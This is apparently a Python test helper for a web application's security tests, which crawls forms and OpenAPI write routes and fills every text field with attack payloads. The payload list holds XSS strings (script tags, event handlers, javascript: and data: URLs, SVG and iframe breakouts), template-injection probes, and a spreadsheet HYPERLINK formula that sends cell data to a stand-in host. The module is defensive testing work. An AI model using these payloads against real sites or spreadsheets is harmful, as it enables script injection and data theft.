"""The attacker's tools for the security tests: a payload corpus and two ways to push it
through every route that stores user text, found rather than listed (issue 21: "enumerated
from the OpenAPI schema and the web forms, so a new route is covered by default").

- :func:`attack_api` reads the JSON API's OpenAPI description and sends every write
  operation a body built from its schema with a payload in each string field;
- :func:`attack_forms` walks the pages a person can reach, finds every form that takes text
  and posts it back with a payload in each text field (CSRF token and hidden fields kept).

Both return what each route answered, so a test can require that nothing answered 500.
"""

from __future__ import annotations

import itertools
import re
from collections import deque
from dataclasses import dataclass, field
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

from fastapi.testclient import TestClient

#: What an attacker types: script tags, event handlers, javascript:/data: URLs, SVG, markup
#: that breaks out of attributes, Markdown links, and spreadsheet formulas. Each one that ran
#: would set ``window.__xss``.
PAYLOADS = [
    "<script>window.__xss=1</script>",
    '"><img src=x onerror="window.__xss=1">',
    "javascript:window.__xss=1",
    "JaVaScRiPt:window.__xss=1//https://x",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
    "<svg onload=window.__xss=1>",
    "'><iframe srcdoc='<script>parent.__xss=1</script>'>",
    '[click](javascript:window.__xss=1) ![x](x" onerror="window.__xss=1)',
    '<a href="javascript:window.__xss=1">link</a>',
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "{{7*7}}{% raw %}${7*7}",
]
#: Forms that end the attacker's own session or lock accounts (posting them would only stop
#: the scan), and the playground, which stores nothing and asks the model server.
SKIPPED_ACTIONS = ("/sign-out", "/sign-in", "/password", "/active", "/leave", "/playground")
NOT_PAGES = (
    "/sign-out",
    "/uploads/",
    "/api/",
    "/static/",
    "/scribe-notes/",
    "/calendar",
    ".ics",
    ".csv",
    "authorized_keys",
    "hostfile",
    "firewall",
    "/plot/",
)


@dataclass
class Form:
    action: str
    fields: list[dict[str, Any]] = field(default_factory=list)


class _Forms(HTMLParser):
    """The POST forms of a page, with their inputs, text areas and selects."""

    def __init__(self) -> None:
        super().__init__()
        self.forms: list[Form] = []
        self.links: list[str] = []
        self._form: Form | None = None
        self._select: dict[str, Any] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = {k: v or "" for k, v in attrs}
        if tag == "a" and a.get("href"):
            self.links.append(a["href"])
        elif tag == "form":
            self._form = (
                Form(a.get("action", "")) if a.get("method", "").lower() == "post" else None
            )
            if self._form is not None:
                self.forms.append(self._form)
        elif self._form is not None and tag in ("input", "textarea"):
            self._form.fields.append({"tag": tag, **a})
        elif self._form is not None and tag == "select":
            self._select = {"tag": "select", "name": a.get("name", ""), "options": []}
            self._form.fields.append(self._select)
        elif self._select is not None and tag == "option":
            self._select["options"].append(a.get("value", ""))

    def handle_endtag(self, tag: str) -> None:
        if tag == "form":
            self._form = None
        elif tag == "select":
            self._select = None


def _fill(form: Form, payload: Any) -> dict[str, str] | None:
    """The form's data with a payload in every text field, or None if it takes no text."""
    data: dict[str, str] = {}
    texts = 0
    for f in form.fields:
        name, kind = f.get("name"), f.get("type", "text").lower()
        if not name:
            continue
        if f["tag"] == "select":
            options = [o for o in f["options"] if o]
            data[name] = options[0] if options else ""
        elif f["tag"] == "textarea" or kind in ("text", "url", "search", "email"):
            data[name] = next(payload)
            texts += 1
        elif kind == "hidden":
            data[name] = f.get("value", "")
        elif kind == "number":
            data[name] = f.get("value") or f.get("min") or "1"
        elif kind in ("radio", "checkbox") and name not in data:
            data[name] = f.get("value", "on")
        elif kind in ("date", "datetime-local", "time") and f.get("value"):
            data[name] = f["value"]
    return data if texts else None


def attack_forms(client: TestClient, max_pages: int = 120) -> dict[str, int]:
    """Post a payload into every text-taking form reachable from the dashboard; returns
    action → status."""
    payload = itertools.cycle(PAYLOADS)
    seen, queue, answers = {"/"}, deque(["/"]), {}
    shapes: set[str] = set()
    pages = 0
    while queue and pages < max_pages:
        path = queue.popleft()
        page = client.get(path)
        moved = page.headers.get("location", "")
        if page.is_redirect and moved.startswith("/") and moved not in seen:
            seen.add(moved)
            queue.append(moved)
        if page.status_code != 200 or "text/html" not in page.headers.get("content-type", ""):
            continue
        pages += 1
        parsed = _Forms()
        parsed.feed(page.text)
        for form in parsed.forms:
            action = form.action or path
            shape = re.sub(r"/(L|A)?\d+(?=/|$)", "/N", action)  # one lecture's form stands for all
            if shape in shapes or any(s in action for s in SKIPPED_ACTIONS):
                continue
            shapes.add(shape)
            data = _fill(form, payload)
            if data is None:
                continue
            answers[action] = client.post(action, data=data).status_code
        for href in parsed.links:
            parts = urlsplit(href)
            if parts.netloc or not parts.path.startswith("/"):
                continue
            target = parts.path + (f"?{parts.query}" if parts.query else "")
            if target not in seen and not any(mark in target for mark in NOT_PAGES):
                seen.add(target)
                queue.append(target)
    return answers


def _example(schema: dict[str, Any], spec: dict[str, Any], payload: Any, depth: int = 0) -> Any:
    """A value for ``schema`` with a payload wherever a string goes."""
    if "$ref" in schema:
        name = schema["$ref"].rsplit("/", 1)[-1]
        return _example(spec["components"]["schemas"][name], spec, payload, depth + 1)
    for key in ("anyOf", "oneOf", "allOf"):
        if key in schema:
            options = [s for s in schema[key] if s.get("type") != "null"]
            return _example(options[0], spec, payload, depth) if options else None
    if "enum" in schema:
        return schema["enum"][0]
    if "const" in schema:
        return schema["const"]
    kind = schema.get("type")
    if kind == "object" or "properties" in schema:
        if depth > 4:
            return {}
        return {
            name: _example(sub, spec, payload, depth + 1)
            for name, sub in schema.get("properties", {}).items()
        }
    if kind == "array":
        return [_example(schema.get("items", {}), spec, payload, depth + 1)]
    if kind == "integer":
        return max(1, schema.get("minimum", 1))
    if kind == "number":
        return max(1.0, schema.get("minimum", 1.0))
    if kind == "boolean":
        return False
    if schema.get("format") in ("date", "date-time"):
        return "2026-03-05" if schema["format"] == "date" else "2026-03-05T10:00:00-08:00"
    return next(payload)


#: A real key for the routes that take one (most ids are 1: a row the demo has).
KEYS = {"lectures": "L3", "assignments": "A3", "milestones": "M1"}


def _an_id(match: re.Match[str]) -> str:
    return f"{match.group(1)}/{KEYS.get(match.group(1), '1')}"


def attack_api(client: TestClient, token: str) -> dict[str, int]:
    """Send every write operation of the JSON API a payload-filled body; returns
    ``METHOD path`` → status."""
    spec = client.get("/api/openapi.json").json()
    payload = itertools.cycle(PAYLOADS)
    answers = {}
    for path, operations in spec["paths"].items():
        for method, operation in operations.items():
            if method not in ("post", "put", "patch"):
                continue
            body = operation.get("requestBody", {}).get("content", {}).get("application/json")
            if body is None:
                continue
            url = "/api" + re.sub(r"(\w+)/{[^}]+}", _an_id, path)
            answers[f"{method.upper()} {path}"] = client.request(
                method.upper(),
                url,
                json=_example(body["schema"], spec, payload),
                headers={"Authorization": f"Bearer {token}"},
            ).status_code
    return answers
